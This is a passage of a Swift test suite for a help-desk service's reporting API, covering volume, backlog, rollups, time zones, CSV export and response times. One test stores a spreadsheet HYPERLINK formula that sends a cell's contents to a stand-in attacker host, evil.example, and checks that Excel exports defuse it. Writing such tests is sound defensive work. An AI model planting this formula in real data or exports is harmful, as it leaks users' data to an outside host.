import Foundation
import HTTPTypes
import Logging
import NIOCore
import Testing
@testable import Madoguchi

/// Reports with known answers, built from rows whose times are chosen by hand.
@Suite("Reports for dashboards", .timeLimit(.minutes(15)))
struct ReportTests {
    static func items(_ app: TestApp, _ key: String, _ path: String) async throws -> [[String: Any]] {
        let response = try await app.request(.get, path, key: key)
        #expect(response.status == .ok, "\(path): \(response.text)")
        return (try response.json["items"] as? [[String: Any]]) ?? []
    }

    /// A ticket opened at `at` (an SQL expression: `'2026-11-03 08:00+09'`, `now()`) on `channel`, with
    /// its first customer message at the same time.
    @discardableResult
    static func arrival(_ app: TestApp, _ customer: UUID, at: String, channel: String = "email", tags: [String] = [], priority: String = "normal") async throws -> UUID {
        let ticket = try await app.insertReturningID("""
            INSERT INTO tickets (customer_id, channel, created_at, tags, priority)
            VALUES (\(customer), \(channel)::channel, \(unescaped: at), \(tags), \(priority))
            RETURNING id
            """)
        try await message(app, ticket, customer, at: at, channel: channel)
        return ticket
    }

    static func message(_ app: TestApp, _ ticket: UUID, _ customer: UUID, at: String, channel: String = "email", classification: String = "customer") async throws {
        try await app.execute("""
            INSERT INTO messages (ticket_id, direction, channel, classification, customer_id, body_text, created_at)
            VALUES (\(ticket), 'inbound', \(channel)::channel, \(classification), \(customer), 'x', \(unescaped: at))
            """)
    }

    @Test("volume: new tickets and customer messages per day and channel, every day present; the time zone, filters and auto-replies change it as they should")
    func volume() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            // 3 November 08:00 in Tokyo is still 2 November in UTC.
            let early = try await Self.arrival(app, customer, at: "'2026-11-03 08:00+09'", tags: ["返品"])
            try await Self.message(app, early, customer, at: "'2026-11-03 09:00+09'")
            try await Self.message(app, early, customer, at: "'2026-11-03 09:05+09'", classification: "auto_reply")
            try await Self.arrival(app, customer, at: "'2026-11-03 12:00+09'", channel: "sms", priority: "urgent")
            try await Self.arrival(app, customer, at: "'2026-11-05 12:00+09'", channel: "chat")

            let rows = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-02&to=2026-11-05")
            #expect(rows.count == 16, "4 days × 4 channels")
            func row(_ period: String, _ channel: String, in rows: [[String: Any]]) -> (Int, Int)? {
                rows.first { $0["period"] as? String == period && $0["channel"] as? String == channel }
                    .map { ($0["new_tickets"] as? Int ?? -1, $0["inbound_messages"] as? Int ?? -1) }
            }
            #expect(row("2026-11-03", "email", in: rows)! == (1, 2), "the auto-reply is not volume")
            #expect(row("2026-11-03", "sms", in: rows)! == (1, 1))
            #expect(row("2026-11-04", "chat", in: rows)! == (0, 0))
            #expect(row("2026-11-05", "chat", in: rows)! == (1, 1))
            #expect(rows.first?["period_start"] as? String == "2026-11-01T15:00:00Z", "Tokyo's 2 November began at 15:00 UTC")

            let utc = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-02&to=2026-11-05&time_zone=UTC")
            // In UTC the ticket and its first message (23:00) fall on the 2nd, the 09:00 JST message (00:00) on the 3rd.
            #expect(row("2026-11-02", "email", in: utc)! == (1, 1))
            #expect(row("2026-11-03", "email", in: utc)! == (0, 1))
            // With no zone asked, the standard calendar's: a shop that moved it to UTC sees UTC days.
            try await app.execute("UPDATE business_calendars SET time_zone = 'UTC' WHERE id = \(BusinessCalendar.standardID)")
            let standard = try await app.request(.get, "/v1/reports/volume?from=2026-11-02&to=2026-11-05", key: dashboard)
            #expect(try standard.json["time_zone"] as? String == "UTC")
            #expect(row("2026-11-02", "email", in: (try standard.json["items"] as? [[String: Any]]) ?? [])! == (1, 1))
            try await app.execute("UPDATE business_calendars SET time_zone = 'Asia/Tokyo' WHERE id = \(BusinessCalendar.standardID)")

            let sms = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-02&to=2026-11-05&channel=sms")
            #expect(sms.count == 4)
            #expect(sms.map { $0["new_tickets"] as? Int } == [0, 1, 0, 0])
            let returns = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-03&to=2026-11-03&tag=%E8%BF%94%E5%93%81")
            #expect(returns.map { $0["new_tickets"] as? Int ?? 0 }.reduce(0, +) == 1)
            let urgent = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-01&to=2026-11-30&granularity=month&priority=urgent")
            #expect(urgent.count == 4)
            #expect(urgent.first?["period"] as? String == "2026-11")
            #expect(urgent.map { $0["new_tickets"] as? Int ?? 0 }.reduce(0, +) == 1)
            let weeks = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-03&to=2026-11-05&granularity=week&channel=email")
            #expect(weeks.map { $0["period"] as? String } == ["2026-W45"])
            let hours = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-03&to=2026-11-03&granularity=hour&channel=email")
            #expect(hours.count == 24)
            #expect(hours.first { $0["period"] as? String == "2026-11-03 09:00" }?["inbound_messages"] as? Int == 1)
        }
    }

    /// The hourly rollups (by dimensions, and by channel alone) against a count of the rows themselves,
    /// row for row: the disagreements, empty when they agree.
    static func rollupDisagreements(_ app: TestApp) async throws -> [String] {
        try await app.strings("""
            WITH rollup AS (
                SELECT hour, kind, channel, queue, category, priority, sum(count)::bigint AS count FROM report_arrival_hours
                GROUP BY 1, 2, 3, 4, 5, 6 HAVING sum(count) <> 0
            ), totals AS (
                SELECT x.hour, v.kind, v.channel, sum(v.count)::bigint AS count
                FROM report_arrival_channel_hours x
                CROSS JOIN LATERAL (VALUES ('ticket', 'email', x.email_tickets), ('message', 'email', x.email_messages),
                                           ('ticket', 'webform', x.webform_tickets), ('message', 'webform', x.webform_messages),
                                           ('ticket', 'sms', x.sms_tickets), ('message', 'sms', x.sms_messages),
                                           ('ticket', 'chat', x.chat_tickets), ('message', 'chat', x.chat_messages)) AS v(kind, channel, count)
                GROUP BY 1, 2, 3 HAVING sum(v.count) <> 0
            ), counted AS (
                SELECT date_trunc('hour', at, 'UTC') AS hour, kind, channel, queue, category, priority, count(*)::bigint AS count
                FROM report_arrivals GROUP BY 1, 2, 3, 4, 5, 6
            ), counted_totals AS (
                SELECT hour, kind, channel, sum(count)::bigint AS count FROM counted GROUP BY 1, 2, 3
            )
            SELECT format('%s %s %s %s %s %s: %s', hour, kind, channel, queue, category, priority, count)
            FROM ((SELECT * FROM rollup EXCEPT ALL SELECT * FROM counted) UNION ALL (SELECT * FROM counted EXCEPT ALL SELECT * FROM rollup)) AS d
            UNION ALL
            SELECT format('total %s %s %s: %s', hour, kind, channel, count)
            FROM ((SELECT * FROM totals EXCEPT ALL SELECT * FROM counted_totals) UNION ALL (SELECT * FROM counted_totals EXCEPT ALL SELECT * FROM totals)) AS d
            """)
    }

    @Test("hours across a change of the clocks: the hour skipped has no row, the hour repeated is one row of two hours holding both, and every row starts where the last ended")
    func daylightSaving() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            // New York, 1 November 2026: 01:00–02:00 happens twice, at 05:00Z (EDT) and 06:00Z (EST).
            try await Self.arrival(app, customer, at: "'2026-11-01 05:30Z'")
            try await Self.arrival(app, customer, at: "'2026-11-01 06:30Z'")
            func hours(_ day: String, _ report: String = "volume") async throws -> [[String: Any]] {
                try await Self.items(app, dashboard, "/v1/reports/\(report)?from=\(day)&to=\(day)&granularity=hour&time_zone=America/New_York&channel=email")
            }
            func instant(_ row: [String: Any], _ key: String) throws -> Date { try Date(try #require(row[key] as? String), strategy: .iso8601) }
            let back = try await hours("2026-11-01")
            #expect(back.count == 24)
            let repeated = try #require(back.first { $0["period"] as? String == "2026-11-01 01:00" })
            #expect(repeated["period_start"] as? String == "2026-11-01T05:00:00Z")
            #expect(repeated["new_tickets"] as? Int == 2)
            #expect(back.first?["period_start"] as? String == "2026-11-01T04:00:00Z")
            #expect(back.first { $0["period"] as? String == "2026-11-01 02:00" }?["period_start"] as? String == "2026-11-01T07:00:00Z")
            let starts = try back.map { try instant($0, "period_start") }
            #expect(starts == starts.sorted() && Set(starts).count == starts.count)
            // The backlog's periods end where the next begins: the 00:00 hour at 05:00Z, not an hour late.
            let backlog = try await hours("2026-11-01", "backlog")
            #expect(backlog.first { $0["period"] as? String == "2026-11-01 00:00" }?["period_end"] as? String == "2026-11-01T05:00:00Z")
            // 8 March 2026: 02:00–03:00 never happens.
            let forward = try await hours("2026-03-08")
            #expect(forward.count == 23)
            #expect(!forward.contains { $0["period"] as? String == "2026-03-08 02:00" })
            #expect(forward.first { $0["period"] as? String == "2026-03-08 03:00" }?["period_start"] as? String == "2026-03-08T07:00:00Z")
            let forwardStarts = try forward.map { try instant($0, "period_start") }
            #expect(Set(forwardStarts).count == forwardStarts.count)
            // Days keep every hour of theirs: the day the clocks go back is 25 hours long.
            let day = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-01&to=2026-11-01&time_zone=America/New_York&channel=email")
            #expect(day.first?["new_tickets"] as? Int == 2)
        }
    }

    @Test("volume reads the hourly rollup: it equals a count of the tickets and messages through arrivals, edits of a ticket's dimensions and folds; half-hour zones and tag filters count the rows")
    func volumeRollup() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            let first = try await Self.arrival(app, customer, at: "'2026-11-03 08:00+09'", tags: ["返品"])
            try await Self.message(app, first, customer, at: "'2026-11-03 09:00+09'")
            try await Self.message(app, first, customer, at: "'2026-11-03 09:05+09'", classification: "auto_reply")
            try await Self.message(app, first, customer, at: "'2026-11-03 09:10+09'", channel: "sms")
            let second = try await Self.arrival(app, customer, at: "'2026-11-03 12:00+09'", channel: "chat", priority: "urgent")
            try await Self.arrival(app, customer, at: "'2026-11-04 23:30+09'", channel: "webform")
            #expect(try await Self.rollupDisagreements(app) == [])

            // A ticket's dimensions change: its arrival and all its customer messages move with it.
            try await app.execute("UPDATE tickets SET category = '配送', priority = 'high' WHERE id = \(first)")
            try await app.execute("UPDATE tickets SET channel = 'email', created_at = '2026-11-03 13:00+09' WHERE id = \(second)")
            #expect(try await Self.rollupDisagreements(app) == [])
            let shipping = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-03&to=2026-11-03&category=%E9%85%8D%E9%80%81")
            #expect(shipping.map { $0["new_tickets"] as? Int ?? 0 }.reduce(0, +) == 1)
            #expect(shipping.map { $0["inbound_messages"] as? Int ?? 0 }.reduce(0, +) == 3, "the first message, the later email and the SMS; not the auto-reply")
            let hours = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-03&to=2026-11-03&granularity=hour&channel=email")
            #expect(hours.first { $0["period"] as? String == "2026-11-03 13:00" }?["new_tickets"] as? Int == 1, "moved to its new opening hour")
            #expect(hours.first { $0["period"] as? String == "2026-11-03 12:00" }?["new_tickets"] as? Int == 0)

            // Folding changes nothing a report says, and empties the changes. (The service's own worker
            // folds every few seconds too: a change it holds at this moment is skipped here, so fold
            // until none is left.)
            let before = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-01&to=2026-11-10")
            let worker = ReportRollupWorker(database: app.database, migrator: try Migrator.bundled(), logger: Logger(label: "test"))
            for _ in 0..<100 where try await app.count("SELECT count(*) FROM report_arrival_changes") > 0 {
                _ = try await worker.foldOnce()
                try await Task.sleep(for: .milliseconds(50))
            }
            #expect(try await app.count("SELECT count(*) FROM report_arrival_changes") == 0)
            #expect(try await app.count("SELECT count(*) FROM report_arrival_counts") > 0)
            #expect(try await Self.rollupDisagreements(app) == [])
            let after = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-01&to=2026-11-10")
            #expect(after.map { "\($0["period"]!) \($0["channel"]!) \($0["new_tickets"]!) \($0["inbound_messages"]!)" }
                    == before.map { "\($0["period"]!) \($0["channel"]!) \($0["new_tickets"]!) \($0["inbound_messages"]!)" })
            try await app.execute("UPDATE tickets SET queue = 'general', category = NULL WHERE id = \(first)")
            #expect(try await Self.rollupDisagreements(app) == [], "edits after a fold subtract from the folded counts")

            // Kolkata (+05:30): its days do not start on UTC hours, so the rows themselves are counted.
            // 23:30 in Tokyo on the 4th is 20:00 in Kolkata on the 4th.
            let kolkata = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-04&to=2026-11-04&time_zone=Asia/Kolkata&channel=webform")
            #expect(kolkata.first?["new_tickets"] as? Int == 1)
            #expect(kolkata.first?["period_start"] as? String == "2026-11-03T18:30:00Z")
            let returns = try await Self.items(app, dashboard, "/v1/reports/volume?from=2026-11-03&to=2026-11-03&tag=%E8%BF%94%E5%93%81")
            #expect(returns.map { $0["inbound_messages"] as? Int ?? 0 }.reduce(0, +) == 3, "a tag filter counts the rows")

            // The rebuild counts everything again, to the same answer.
            try await app.execute("SELECT rebuild_report_arrivals()")
            #expect(try await Self.rollupDisagreements(app) == [])
        }
    }

    @Test("CSV has the JSON's rows, column for column; streamed with Accept or format=csv; a BOM only when asked")
    func csvAgreesWithJSON() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            try await Self.arrival(app, customer, at: "'2026-11-03 08:00+09'")
            let path = "/v1/reports/volume?from=2026-11-01&to=2026-11-10"
            let json = try await Self.items(app, dashboard, path)
            let csv = try await app.request(.get, path, key: dashboard, headers: [.accept: "text/csv"])
            #expect(csv.status == .ok)
            #expect(csv.headers[.contentType] == "text/csv; charset=utf-8")
            #expect(csv.headers[.contentDisposition] == #"attachment; filename="madoguchi-volume-2026-11-01-2026-11-10.csv""#)
            let lines = csv.text.components(separatedBy: "\r\n").filter { !$0.isEmpty }
            #expect(lines.first == "period,period_start,channel,new_tickets,inbound_messages")
            #expect(lines.count == json.count + 1)
            for (line, row) in zip(lines.dropFirst(), json) {
                let expected = ["period", "period_start", "channel", "new_tickets", "inbound_messages"].map { "\(row[$0] ?? "")" }
                #expect(line.components(separatedBy: ",") == expected)
            }
            #expect(!csv.text.hasPrefix("\u{FEFF}"))

            let excel = try await app.request(.get, path + "&format=csv&bom=true", key: dashboard)
            #expect(Array(excel.bodyBuffer.readableBytesView.prefix(3)) == [0xEF, 0xBB, 0xBF])
            // format= and Accept asking for different things: a 406 that says they disagree.
            let conflict = try await app.request(.get, path + "&format=json", key: dashboard, headers: [.accept: "text/csv"])
            try expectProblem(conflict, .notAcceptable, "not-acceptable")
            #expect(conflict.text.contains("format=json asks for application/json"), "\(conflict.text)")
            // Neither acceptable: both named.
            let neither = try await app.request(.get, path, key: dashboard, headers: [.accept: "application/xml"])
            try expectProblem(neither, .notAcceptable, "not-acceptable")
            #expect(neither.text.contains("application/json and text/csv are not acceptable"), "\(neither.text)")
            #expect(String(decoding: excel.bodyBuffer.readableBytesView.dropFirst(3), as: UTF8.self) == csv.text)
        }
    }

    @Test("an export for Excel (bom=true) defuses text a spreadsheet would run as a formula; without the mark it is as stored")
    func csvFormulaInjection() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            let ticket = try await Self.arrival(app, customer, at: "'2026-11-03 08:00+09'")
            let formula = #"=HYPERLINK("https://evil.example/?"&A2,"詳細")"#
            try await app.execute("UPDATE tickets SET tags = ARRAY[\(formula), '-sale', '@mention', 'ok'] WHERE id = \(ticket)")
            let path = "/v1/reports/categories?from=2026-11-01&to=2026-11-10&format=csv"
            let plain = try await app.request(.get, path, key: dashboard).text
            let excel = String(decoding: try await app.request(.get, path + "&bom=true", key: dashboard).bodyBuffer.readableBytesView.dropFirst(3), as: UTF8.self)
            #expect(plain.contains(CSV.quoted(formula)) && plain.contains(",-sale,") && plain.contains(",@mention,"), "\(plain)")
            #expect(excel.contains(CSV.quoted("'" + formula)) && excel.contains(",'-sale,") && excel.contains(",'@mention,"), "\(excel)")
            #expect(!excel.contains(",=") && !excel.contains(",\"=") && excel.contains(",ok,"), "\(excel)")
        }
    }

    @Test("backlog: open tickets at each day's end, by status and age, from the status history")
    func backlog() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            let ticket = try await Self.arrival(app, customer, at: "'2026-11-01 10:00+09'")
            // Its history as it happened: new, open from the 2nd, solved on the 3rd.
            try await app.execute("DELETE FROM ticket_status_periods WHERE ticket_id = \(ticket)")
            try await app.execute("""
                INSERT INTO ticket_status_periods (ticket_id, status, entered_at, left_at) VALUES
                    (\(ticket), 'new', '2026-11-01 10:00+09', '2026-11-02 10:00+09'),
                    (\(ticket), 'open', '2026-11-02 10:00+09', '2026-11-03 10:00+09'),
                    (\(ticket), 'solved', '2026-11-03 10:00+09', NULL)
                """)
            let rows = try await Self.items(app, dashboard, "/v1/reports/backlog?from=2026-11-01&to=2026-11-04")
            #expect(rows.count == 16, "4 days × 4 open statuses")
            func open(_ period: String, _ status: String) -> [String: Any]? {
                rows.first { $0["period"] as? String == period && $0["status"] as? String == status }
            }
            #expect(open("2026-11-01", "new")?["open_tickets"] as? Int == 1)
            #expect(open("2026-11-01", "new")?["age_under_1d"] as? Int == 1)
            #expect(open("2026-11-02", "open")?["open_tickets"] as? Int == 1)
            #expect(open("2026-11-02", "open")?["age_1d_to_3d"] as? Int == 1)
            #expect(open("2026-11-02", "new")?["open_tickets"] as? Int == 0)
            #expect(rows.filter { $0["period"] as? String == "2026-11-03" }.allSatisfy { $0["open_tickets"] as? Int == 0 })
            #expect(open("2026-11-01", "new")?["period_end"] as? String == "2026-11-01T15:00:00Z")

            // Status changes made through the service write the history themselves.
            let live = try await app.ticket(customer: customer)
            try await app.execute("UPDATE tickets SET status = 'pending' WHERE id = \(live)")
            #expect(try await app.count("SELECT count(*) FROM ticket_status_periods WHERE ticket_id = \(live)") == 2)
            #expect(try await app.count("SELECT count(*) FROM ticket_status_periods WHERE ticket_id = \(live) AND left_at IS NULL AND status = 'pending'") == 1)
        }
    }

    /// The backlog rollup's running sum against the stretches covering each hour boundary from
    /// `from` to `to` (SQL expressions), per status and age bucket: the disagreements, empty when they agree.
    static func backlogDisagreements(_ app: TestApp, from: String, to: String) async throws -> [String] {
        try await app.strings("""
            WITH instants AS (
                SELECT generate_series(\(unescaped: from), \(unescaped: to), interval '1 hour') AS at
            ), rolled AS (
                SELECT i.at, x.status, sum(x.under_1d)::bigint AS a, sum(x.d1_to_3d)::bigint AS b, sum(x.d3_to_7d)::bigint AS c,
                       sum(x.d7_to_30d)::bigint AS d, sum(x.over_30d)::bigint AS e
                FROM instants i JOIN report_backlog_hours x ON x.hour <= i.at
                GROUP BY 1, 2
                HAVING sum(x.under_1d) <> 0 OR sum(x.d1_to_3d) <> 0 OR sum(x.d3_to_7d) <> 0 OR sum(x.d7_to_30d) <> 0 OR sum(x.over_30d) <> 0
            ), covering AS (
                SELECT i.at, s.status,
                       count(*) FILTER (WHERE i.at - t.created_at < interval '1 day') AS a,
                       count(*) FILTER (WHERE i.at - t.created_at >= interval '1 day' AND i.at - t.created_at < interval '3 days') AS b,
                       count(*) FILTER (WHERE i.at - t.created_at >= interval '3 days' AND i.at - t.created_at < interval '7 days') AS c,
                       count(*) FILTER (WHERE i.at - t.created_at >= interval '7 days' AND i.at - t.created_at < interval '30 days') AS d,
                       count(*) FILTER (WHERE i.at - t.created_at >= interval '30 days') AS e
                FROM instants i
                JOIN ticket_status_periods s ON tstzrange(s.entered_at, s.left_at) @> i.at
                JOIN tickets t ON t.id = s.ticket_id
                WHERE s.status IN ('new', 'open', 'pending', 'on_hold')
                GROUP BY 1, 2
            )
            SELECT format('%s %s: %s %s %s %s %s', at, status, a, b, c, d, e)
            FROM ((SELECT * FROM rolled EXCEPT ALL SELECT * FROM covering) UNION ALL (SELECT * FROM covering EXCEPT ALL SELECT * FROM rolled)) AS d
            ORDER BY 1
            """)
    }

    @Test("backlog now: the rollup's last hour boundary plus what changed since (a stretch entered, one left, a ticket turning a day old) equals the stretches covering now")
    func backlogNow() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            // `mid`: halfway between the last hour boundary and now, where the changes happen.
            let mid = "(date_trunc('hour', now(), 'UTC') + (now() - date_trunc('hour', now(), 'UTC')) / 2)"
            /// A ticket opened at `opened` whose stretches are exactly `stretches` (status, entered, left).
            func ticket(opened: String, status: String, _ stretches: [(String, String, String)]) async throws {
                let id = try await Self.arrival(app, customer, at: opened)
                try await app.execute("UPDATE tickets SET status = \(status) WHERE id = \(id)")
                try await app.execute("DELETE FROM ticket_status_periods WHERE ticket_id = \(id)")
                for (stretch, entered, left) in stretches {
                    try await app.execute("""
                        INSERT INTO ticket_status_periods (ticket_id, status, entered_at, left_at)
                        VALUES (\(id), \(stretch), \(unescaped: entered), \(unescaped: left))
                        """)
                }
            }
            // Open 10 days, pending since mid: left one stretch and entered another since the boundary.
            try await ticket(opened: "\(mid) - interval '10 days'", status: "pending", [
                ("open", "\(mid) - interval '10 days'", mid), ("pending", mid, "NULL")])
            // New, turning one day old at mid.
            try await ticket(opened: "\(mid) - interval '1 day'", status: "new", [("new", "\(mid) - interval '1 day'", "NULL")])
            // New since mid.
            try await ticket(opened: mid, status: "new", [("new", mid, "NULL")])
            // On hold for 40 days: the same at the boundary and now.
            try await ticket(opened: "\(mid) - interval '40 days'", status: "on_hold", [("on_hold", "\(mid) - interval '40 days'", "NULL")])

            // Today's period is the one running: it ends now.
            let today = Date().formatted(Date.ISO8601FormatStyle(timeZone: TimeZone(identifier: "Asia/Tokyo")!).year().month().day())
            func now(_ filter: String) async throws -> [String] {
                try await Self.items(app, dashboard, "/v1/reports/backlog?from=\(today)&to=\(today)\(filter)").map { row in
                    ["status", "open_tickets", "age_under_1d", "age_1d_to_3d", "age_3d_to_7d", "age_7d_to_30d", "age_over_30d"]
                        .map { "\(row[$0] ?? "")" }.joined(separator: " ")
                }
            }
            let expected = ["new 2 1 1 0 0 0", "open 0 0 0 0 0 0", "pending 1 0 0 0 1 0", "on_hold 1 0 0 0 0 1"]
            // Through the rollup (no filter), and through the stretches (a filter every ticket passes).
            #expect(try await now("") == expected)
            #expect(try await now("&queue=general") == expected)
            // Tomorrow has not begun: no row repeats now's counts into it.
            let tomorrow = Date().addingTimeInterval(86_400)
                .formatted(Date.ISO8601FormatStyle(timeZone: TimeZone(identifier: "Asia/Tokyo")!).year().month().day())
            #expect(try await Self.items(app, dashboard, "/v1/reports/backlog?from=\(today)&to=\(tomorrow)").count == 4)
        }
    }

    @Test("backlog reads its hourly rollup: the running sum equals the stretches covering every hour through history edits, live status changes, a moved opening and folds; a filter counts the stretches to the same answer")
    func backlogRollup() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            let history = try await Self.arrival(app, customer, at: "'2026-10-01 10:00Z'")
            try await app.execute("DELETE FROM ticket_status_periods WHERE ticket_id = \(history)")
            try await app.execute("""
                INSERT INTO ticket_status_periods (ticket_id, status, entered_at, left_at) VALUES
                    (\(history), 'new', '2026-10-01 10:00Z', '2026-10-01 12:00Z'),
                    (\(history), 'open', '2026-10-01 12:00Z', '2026-10-05 09:15Z'),
                    (\(history), 'solved', '2026-10-05 09:15Z', '2026-10-07 00:00Z'),
                    (\(history), 'open', '2026-10-07 00:00Z', '2026-10-20 17:30Z'),
                    (\(history), 'on_hold', '2026-10-20 17:30Z', NULL)
                """)
            let old = try await Self.arrival(app, customer, at: "'2026-08-20 23:59:59Z'")
            try await app.execute("UPDATE tickets SET status = 'on_hold' WHERE id = \(old)")
            let live = try await Self.arrival(app, customer, at: "now() - interval '26 hours'")
            try await app.execute("UPDATE tickets SET status = 'open' WHERE id = \(live)")
            try await app.execute("UPDATE tickets SET status = 'pending' WHERE id = \(live)")
            try await app.execute("UPDATE tickets SET status = 'solved' WHERE id = \(history)")
            let span = (from: "'2026-08-01 00:00Z'::timestamptz", to: "date_trunc('hour', now()) + interval '40 days'")
            #expect(try await Self.backlogDisagreements(app, from: span.from, to: span.to) == [])

            // A corrected history and a moved opening move every bucket they touch.
            try await app.execute("UPDATE ticket_status_periods SET left_at = '2026-10-03 00:00Z' WHERE ticket_id = \(history) AND status = 'open' AND entered_at = '2026-10-01 12:00Z'")
            try await app.execute("UPDATE tickets SET created_at = '2026-09-15 06:30Z' WHERE id = \(old)")
            #expect(try await Self.backlogDisagreements(app, from: span.from, to: span.to) == [])

            // Folding changes nothing.
            let worker = ReportRollupWorker(database: app.database, migrator: try Migrator.bundled(), logger: Logger(label: "test"))
            for _ in 0..<100 where try await app.count("SELECT count(*) FROM report_backlog_changes") > 0 {
                _ = try await worker.foldOnce()
                try await Task.sleep(for: .milliseconds(50))
            }
            #expect(try await app.count("SELECT count(*) FROM report_backlog_changes") == 0)
            #expect(try await Self.backlogDisagreements(app, from: span.from, to: span.to) == [])

            // Through the API: the rollup (no filter) and the stretches (a filter every ticket passes)
            // give the same rows for periods that ended (a period ending later ends "now", which two
            // requests never share to the second).
            func rows(_ query: String) async throws -> [String] {
                try await Self.items(app, dashboard, "/v1/reports/backlog?\(query)").map { row in
                    ["period", "period_end", "status", "open_tickets", "age_under_1d", "age_1d_to_3d", "age_3d_to_7d", "age_7d_to_30d", "age_over_30d"]
                        .map { "\(row[$0] ?? "")" }.joined(separator: " ")
                }
            }
            for query in ["from=2026-08-01&to=2026-11-30", "from=2026-09-01&to=2026-11-30&granularity=week&time_zone=UTC",
                          "from=2026-10-01&to=2026-10-08&granularity=hour"] {
                let rolled = try await rows(query)
                #expect(rolled.count > 0)
                #expect(rolled == (try await rows(query + "&queue=general")), "\(query)")
            }
            // Known answers at the end of 21 October in Tokyo (15:00 UTC): the history ticket on hold
            // since the 20th, 20 days old; the other still new, 36 days old by its moved opening.
            let day = try await rows("from=2026-10-21&to=2026-10-21")
            #expect(day.contains("2026-10-21 2026-10-21T15:00:00Z on_hold 1 0 0 0 1 0"), "\(day)")
            #expect(day.contains("2026-10-21 2026-10-21T15:00:00Z new 1 0 0 0 0 1"), "\(day)")

            // Today in Tokyo ends "now": the tickets' present statuses, aged now.
            let today = Date().formatted(Date.ISO8601FormatStyle(timeZone: TimeZone(identifier: "Asia/Tokyo")!).year().month().day())
            let now = try await rows("from=\(today)&to=\(today)")
            #expect(now.contains { $0.hasSuffix(" on_hold 1 0 0 0 0 1") }, "the old ticket, 30+ days by its moved opening: \(now)")
            #expect(now.contains { $0.hasSuffix(" pending 1 0 1 0 0 0") }, "opened 26 hours ago: \(now)")
            #expect(now.contains { $0.hasSuffix(" open 0 0 0 0 0 0") }, "the history ticket is solved now: \(now)")

            try await app.execute("SELECT rebuild_report_backlog()")
            #expect(try await Self.backlogDisagreements(app, from: span.from, to: span.to) == [])
        }
    }

    @Test("response times: median, p90 and mean of what ended in each period; a reply sent through the service is measured")
    func responseTimes() async throws {
        try await TestApp.run { app in
            let supervisor = try await app.keySecret(.supervisor)
            let customer = try await app.customer()
            let ticket = try await Self.arrival(app, customer, at: "'2026-11-02 09:00+09'")
            for (seconds, first) in [(60, true), (120, false), (180, false), (600, false)] {
                try await app.execute("""
                    INSERT INTO ticket_responses (ticket_id, is_first, waited_since, responded_at, wall_seconds, business_seconds)
                    VALUES (\(ticket), \(first), '2026-11-03 10:00+09'::timestamptz - make_interval(secs => \(seconds)), '2026-11-03 10:00+09',
                            \(Double(seconds)), \(Double(seconds) / 2))
                    """)
            }
            let rows = try await Self.items(app, supervisor, "/v1/reports/response-times?from=2026-11-03&to=2026-11-03")
            #expect(rows.map { $0["metric"] as? String } == ["first_response", "next_response", "resolution"])
            let next = try #require(rows.first { $0["metric"] as? String == "next_response" })
            #expect(next["count"] as? Int == 3)
            #expect(next["wall_median_seconds"] as? Double == 180)
            #expect(next["wall_mean_seconds"] as? Double == 300)
            #expect(abs((next["wall_p90_seconds"] as? Double ?? 0) - 516) < 0.001, "p90 of 120, 180, 600 is 180 + 0.8 × 420")
            #expect(next["business_median_seconds"] as? Double == 90)
            #expect(rows.first { $0["metric"] as? String == "resolution" }?["count"] as? Int == 0)
            #expect(rows.first { $0["metric"] as? String == "resolution" }?["wall_median_seconds"] == nil)

            // Through the service: a mail, a reply; the wait is recorded as a first response.
            let conversation = try await DeliveryTests.customerWrites(app, from: "hanako@example.jp")
            _ = try await DeliveryTests.answer(conversation, "確認いたします。")
            #expect(try await app.count("""
                SELECT count(*) FROM ticket_responses WHERE ticket_id = \(UUID(uuidString: conversation.ticket)!) AND is_first
                  AND agent_id IS NOT NULL AND business_seconds IS NOT NULL AND wall_seconds >= 0
                """) == 1)
        }
    }

    @Test("response times and SLA read the closed periods' rollup: the same rows as the facts computed live, in every granularity, zone and channel, through late facts, a moved channel, cut-short periods, clocks running past due and folds")
    func responseTimeRollup() async throws {
        try await TestApp.run { app in
            let dashboard = try await app.keySecret(.dashboard)
            let customer = try await app.customer()
            // A calendar off the hour makes its zone one the rollup keeps.
            try await app.execute("INSERT INTO business_calendars (name, time_zone) VALUES ('Kolkata', 'Asia/Kolkata')")
            var tickets: [UUID] = []
            for (index, channel) in ["email", "sms", "email", "chat", "webform", "email"].enumerated() {
                let opened = "'2026-10-01 08:00Z'::timestamptz + interval '\(index * 29) hours 17 minutes'"
                let ticket = try await Self.arrival(app, customer, at: opened, channel: channel)
                tickets.append(ticket)
                // Whole seconds, so every mean is exact whichever order the rows are added in.
                for wait in 0..<4 {
                    try await app.execute("""
                        INSERT INTO ticket_responses (ticket_id, is_first, waited_since, responded_at, due_at, wall_seconds, business_seconds)
                        VALUES (\(ticket), \(wait == 0), \(unescaped: opened) + make_interval(hours => \(wait * 7)::int),
                                \(unescaped: opened) + make_interval(hours => \(wait * 7)::int) + make_interval(secs => \(600 + index * 300 + wait * 1_800)),
                                \(unescaped: opened) + make_interval(hours => \(wait * 7)::int) + make_interval(secs => \(900 + index * 400 + wait * 1_500)),
